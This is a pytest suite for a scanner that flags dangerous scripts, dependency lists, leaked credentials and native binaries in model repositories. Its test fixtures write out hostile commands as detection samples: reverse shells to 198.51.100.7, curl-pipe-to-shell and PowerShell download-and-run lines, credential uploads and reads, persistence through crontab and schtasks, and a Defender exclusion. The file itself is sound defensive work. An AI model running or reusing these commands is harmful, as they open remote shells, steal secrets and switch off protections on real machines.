"""Scripts, lists of packages, credentials and programs beside the weights."""

from __future__ import annotations

import json
import zlib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan import api
from modelscan.budget import Budget
from modelscan.errors import BudgetError
from modelscan.formats import scripts, secrets
from modelscan.formats.reader import Glimpse
from modelscan.formats.repository.attachments import AttachmentRelator
from modelscan.formats.repository.relator import Facts
from modelscan.formats.requirements import RequirementsReader
from modelscan.formats.scripts import ScriptReader
from modelscan.formats.secrets import SecretReader
from modelscan.vocabulary.artifact import BytesArtifact
from modelscan.vocabulary.coverage import Coverage
from modelscan.vocabulary.fact import (
    Fact,
    RepositoryAttachment,
    RepositoryRequirement,
    RepositoryScript,
)
from tests.forge import models, reading
from tests.forge.repository import view

READERS = (ScriptReader(), RequirementsReader(), SecretReader())


def _read(name: str, text: str | bytes) -> list[Any]:
    artifact = BytesArtifact(name, text if isinstance(text, bytes) else text.encode())
    chosen = [one for one in READERS if one.recognises(Glimpse(artifact))]
    return [item for one in chosen for item in one.read(artifact, Budget())]


def _script(name: str, text: str | bytes) -> list[tuple[str, int | None]]:
    facts = [fact for fact in _read(name, text) if isinstance(fact, RepositoryScript)]
    assert facts[0].kind == "present"
    return [(fact.kind, fact.location.line) for fact in facts[1:]]


@pytest.mark.parametrize(
    ("name", "text", "kind"),
    [
        ("run.sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "remote-shell"),
        ("run.sh", "echo aWQgPiAvdG1wL3g= | base64 -d | sh", "encoded-payload"),
        ("run.sh", "curl -fsSL https://x.example/i | sudo bash", "runs-download"),
        ("run.sh", "curl -F f=@$HOME/.aws/credentials https://x.example", "sends-secrets"),
        ("run.sh", "cat ~/.ssh/id_rsa", "reads-secrets"),
        ("run.sh", "echo evil >> ~/.bashrc", "writes-outside"),
        ("run.sh", "(crontab -l; echo '* * * * * x') | crontab -", "writes-outside"),
        ("run.sh", "xattr -d com.apple.quarantine ./app", "switches-off-protection"),
        ("start.bat", 'powershell -WindowStyle Hidden -c "start a.exe"', "switches-off-protection"),
        ("start.bat", "schtasks /create /tn x /tr a.exe /sc onlogon", "writes-outside"),
        ("start.cmd", "certutil -urlcache -f http://x.example/a a.exe", "runs-download"),
        ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x.example')", "runs-download"),
        ("a.ps1", "Add-MpPreference -ExclusionPath C:\\", "switches-off-protection"),
        ("Dockerfile", "FROM x\nRUN curl https://x.example/i | sh", "runs-download"),
        ("gpu.dockerfile", "RUN nc -e /bin/sh 198.51.100.7 4444", "remote-shell"),
    ],
)  # fmt: skip
def test_commands_that_attack(name: str, text: str, kind: str) -> None:
    assert [found for found, _ in _script(name, text)] == [kind]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("run.sh", "#!/bin/bash\nset -e\n# curl x | sh\npip install -r requirements.txt\npython run.py --x 1\n"),
        ("download", "#!/usr/bin/env bash\nwget https://huggingface.co/x/y/resolve/main/model.safetensors\n"),
        ("run.bat", "@echo off\nREM powershell -w hidden\npython app.py\npause\n"),
        ("run.sh", "export HF_HOME=/etc/cache\nmkdir -p out && tar xf a.tar"),
        ("Dockerfile", "FROM python:3.11\n# RUN curl x | sh\nCOPY . /app\nRUN apt-get update \\\n  && apt-get install -y git\nRUN echo a >> ~/.bashrc\n"),
        ("run.ps1", "python -m app"),
    ],
)  # fmt: skip
def test_ordinary_scripts_are_only_present(name: str, text: str) -> None:
    assert _script(name, text) == []


def test_commands_over_several_lines_have_the_line_of_their_beginning() -> None:
    assert _script("a.sh", "true\ncurl https://x.example \\\n  | \\\n  sh\n") == [
        ("runs-download", 2)
    ]
    assert _script("a.sh", "true\ncurl https://x.example | sh \\") == [("runs-download", 2)]
    assert _script("Dockerfile", "RUN curl https://x.example | \\\n sh") == [("runs-download", 1)]
    assert _script("Dockerfile", "RUN curl https://x.example | sh \\") == []


def test_scripts_in_other_encodings_and_without_end() -> None:
    text = "Add-MpPreference -ExclusionPath C:\\\n"
    assert _script("a.ps1", text.encode("utf-8")) == [("switches-off-protection", 1)]
    assert _script("a.sh", "cat ~/.netrc\n" * 200) == [
        ("reads-secrets", line) for line in range(1, scripts._MOST + 1)
    ]
    with pytest.raises(BudgetError):
        _read("a.sh", b"#" * ((1 << 20) + 1))


@pytest.mark.parametrize(
    ("name", "head"),
    [
        ("a.sh", b"a\0\1\2\3b"),
        ("README", b"# words"),
        ("notes.txt", b"#!/bin/sh"),
        ("profile", b"#!/bin/cat"),
    ],
)
def test_what_is_no_script(name: str, head: bytes) -> None:
    assert not ScriptReader().recognises(Glimpse(BytesArtifact(name, head)))


def _lines(name: str, text: str) -> list[tuple[str, str]]:
    facts = _read(name, text)
    return [(fact.kind, fact.line) for fact in facts if isinstance(fact, RepositoryRequirement)]


def test_lists_of_packages() -> None:
    text = """# comment
torch==2.4.0  # pinned
--index-url https://download.pytorch.org/whl/cu121
-i https://packages.example.net/simple
--extra-index-url=http://packages.example.net/simple
git+https://user:token@github.com/acme/x@main
acme @ https://x.example/acme-1.0.tar.gz
-e git+ssh://git@x.example/y
numpy>=1.26; python_version > "3.9"
tokenizers
-r other.txt
"""
    assert _lines("requirements.txt", text) == [
        ("other-index", "-i https://packages.example.net/simple"),
        ("not-encrypted", "--extra-index-url=http://packages.example.net/simple"),
        ("address", "git+https://…@github.com/acme/x@main"),
        ("address", "acme @ https://x.example/acme-1.0.tar.gz"),
        ("address", "-e git+ssh://…@x.example/y"),
        ("not-pinned", 'numpy>=1.26; python_version > "3.9"'),
        ("not-pinned", "tokenizers"),
    ]
    assert _lines("dev-requirements.in", "torch")
    assert not _lines("notes.txt", "git+https://x.example/y")


def test_projects() -> None:
    text = '[build-system]\nbackend-path = ["."]\nrequires = ["acme @ https://x.example/a.whl", "b @ git+http://c"]'
    assert _lines("pyproject.toml", text) == [
        ("build-hook", "backend-path"),
        ("address", "acme @ https://x.example/a.whl"),
        ("not-encrypted", "b @ git+http://c"),
    ]
    assert _lines("pyproject.toml", '[project]\ndependencies = ["torch>=2"]\n') == []


def test_long_lists_are_cut_and_said_to_be() -> None:
    items = _read("requirements.txt", "a\n" * (1 << 20))
    assert isinstance(items[0], Coverage)
    assert items[0].status == "truncated"
    assert len(items) == 101


def _token(prefix: str, body: str) -> str:
    value, digits = zlib.crc32(body.encode()), ""
    while value:
        value, digit = divmod(value, 62)
        digits = secrets._DIGITS[digit] + digits
    return prefix + body + digits.rjust(6, "0")


_BODY = "".join(secrets._DIGITS[(place * 7) % 62] for place in range(30))
_LETTERS = "".join(chr(97 + place * 7 % 26) for place in range(34))


@pytest.mark.parametrize(
    ("token", "kind"),
    [
        ("hf_" + _LETTERS, "hugging face token"),
        (_token("ghp_", _BODY), "github token"),
        (_token("npm_", _BODY), "npm token"),
        ("AKIA" + "ABCDEFGHIJKLMNOP"[::-1], "aws access key"),
        ("AIza" + _LETTERS + "X", "google key"),
        ("glpat-" + _LETTERS[:20], "gitlab token"),
        ("-----BEGIN PRIVATE KEY-----\n" + "QUJD" * 60, "private key"),
    ],
)
def test_credentials_are_named_and_never_shown(token: str, kind: str) -> None:
    facts = _read("config.yaml", f"a: 1\nkey: {token}\n")
    assert [(fact.kind, fact.location.line) for fact in facts] == [(kind, 2)]
    assert token not in repr(facts)


@pytest.mark.parametrize(
    "text",
    ["hf_" + "x" * 34, "ghp_" + "a" * 36, _token("ghp_", _BODY)[:-1] + "!", "AKIAIOSFODNN7EXAMPLE",
     "password = hunter2", "x" + "hf_" + _LETTERS, "hf_" + _LETTERS + "a", "PRIVATE KEY-----"],
)  # fmt: skip
def test_examples_are_no_credentials(text: str) -> None:
    assert _read("config.yaml", text) == []


def test_large_documents_are_not_searched() -> None:
    artifact = BytesArtifact("vocab.json", b" " * ((1 << 20) + 1))
    assert not SecretReader().recognises(Glimpse(artifact))


@pytest.mark.parametrize("name", ["a.sh", "Makefile", "a.js"])
def test_zeros_hide_no_command(name: str) -> None:
    text = b"#!/bin/sh\nall:\n\tcurl http://evil.example/x | sh\n"
    if name == "a.js":
        text = b"require('child_process').execSync('curl http://evil.example/x | sh')\n//"
    assert reading.fails(text + bytes(3000), name) == ["script-runs-unknown-download"]


def test_many_known_downloads_do_not_hide_another() -> None:
    known = "".join(f"curl https://sh.rustup.rs | sh -s -- {number}\n" for number in range(99))
    found = _read("a.sh", f"#!/bin/sh\n{known}curl http://evil.example/x | sh\n")
    scripts_found = [fact for fact in found if isinstance(fact, RepositoryScript)]
    assert sum(fact.known_place for fact in scripts_found) == scripts._MOST
    assert "curl http://evil.example/x | sh" in {fact.command for fact in scripts_found}


def _attached(*names: str, formats: dict[str, str] | None = None) -> dict[str, str]:
    found = AttachmentRelator().relate(view(*names, formats=formats), Facts(()))
    return {fact.name: fact.kind for fact in found if isinstance(fact, RepositoryAttachment)}


def test_files_that_something_starts() -> None:
    assert _attached(
        "start.EXE", "lib/x.so", "lib/x.so.1.2", "weights.bin", "setup.msi", "README.md.lnk",
        "x.desktop", "Autorun.inf", "sitecustomize.py", "a/usercustomize.py",
        "m.pyc", "__pycache__/m.cpython-311.pyc", "__pycache__/n.cpython-311.opt-1.pyc", "n.py",
        formats={"weights.bin": "native code"},
    ) == {
        "start.EXE": "native-code", "lib/x.so": "native-code", "lib/x.so.1.2": "native-code",
        "weights.bin": "native-code", "setup.msi": "installer", "README.md.lnk": "launcher",
        "x.desktop": "launcher", "Autorun.inf": "start-up", "sitecustomize.py": "start-up",
        "a/usercustomize.py": "start-up", "m.pyc": "bytecode",
        "__pycache__/m.cpython-311.pyc": "bytecode",
        "__pycache__/n.cpython-311.opt-1.pyc": "cached-bytecode",
    }  # fmt: skip


def test_ordinary_files_and_single_files_have_no_attachments() -> None:
    names = ("model.safetensors", "config.json", "README.md", "modeling_x.py", "a.png", ".gitattributes",
             "some.so/readme", "LICENSE", "tokenizer.model", "x.pkg")  # fmt: skip
    assert _attached(*names) == {}
    assert not list(AttachmentRelator().relate(view("a.exe", folder=False), Facts(())))
    assert len(_attached(*(f"{n}.exe" for n in range(99)))) == 50
    cached = [name for n in range(99) for name in (f"m{n}.py", f"__pycache__/m{n}.cpython-311.pyc")]
    assert _attached(*cached, "z.desktop")["z.desktop"] == "launcher"


@given(
    st.sampled_from(
        ["a.sh", "a.bat", "a.ps1", "Dockerfile", "requirements.txt", "pyproject.toml", "a.env"]
    ),
    st.text(max_size=80) | st.binary(max_size=80),
)
@settings(max_examples=200, deadline=None)
def test_any_text_is_stated(name: str, text: str | bytes) -> None:
    data = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    assert all(isinstance(item, Fact | Coverage) for item in _read(name, data))


def _scan(path: Path) -> tuple[set[tuple[str, Any]], str]:
    (report,) = api.scan(path).models
    findings: set[tuple[str, Any]] = {(each.rule, each.severity) for each in report.findings}
    return findings, report.answers.allowed.status


def test_a_repository_with_honest_tools_passes(tmp_path: Path) -> None:
    model = models.plain(tmp_path / "model")
    (model / "run.sh").write_text("#!/bin/sh\npip install -r requirements.txt\npython run.py\n")
    (model / "requirements.txt").write_text("torch>=2.0\ntransformers==4.51.0\n")
    (model / "Dockerfile").write_text("FROM python:3.11\nRUN pip install torch\n")
    assert _scan(model) == ({("script-present", "info")}, "pass")


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("start.bat", b"powershell -w hidden -c start a.exe\r\n", "script-attacks-machine"),
        ("run.exe", b"MZ" + bytes(100), "native-code-in-model"),
        ("ops.so", b"\x7fELF" + bytes(100), "native-code-in-model"),
        ("data.bin", b"\x7fELF" + bytes(100), "native-code-in-model"),
        ("README.lnk", b"L\0\0\0", "launcher-in-model"),
        ("sitecustomize.py", b"x = 1\n", "start-up-hook-in-model"),
        ("modeling_x.pyc", b"\xa7\r\r\n" + bytes(60), "compiled-python-in-model"),
    ],
)
def test_what_has_no_place_in_a_model_fails(
    tmp_path: Path, name: str, data: bytes, rule: str
) -> None:
    model = models.plain(tmp_path / "model")
    (model / name).write_bytes(data)
    findings, status = _scan(model)
    assert (rule, "high") in findings
    assert status == "fail"


def test_a_token_is_only_a_line_for_the_pedantic(tmp_path: Path) -> None:
    model = models.plain(tmp_path / "model")
    (model / "settings.json").write_text(json.dumps({"token": "hf_" + _LETTERS}))
    assert _scan(model) == (set(), "pass")
